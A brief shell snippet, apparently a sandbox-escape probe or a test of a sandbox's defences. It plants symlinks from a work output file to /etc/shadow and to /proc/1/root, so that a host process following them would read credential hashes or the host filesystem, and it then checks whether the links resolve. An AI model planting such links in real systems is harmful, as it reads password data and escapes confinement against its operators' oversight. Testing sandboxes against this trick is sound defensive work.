# Links planted where a host process might follow them: to host files, to /proc.
ln -s /etc/shadow /work/main.out
ln -s /proc/1/root /work/root
ln -s /root /tmp/root
ls /work/main.out /work/root >/dev/null 2>&1 && echo "links resolve" || echo "links dangle"
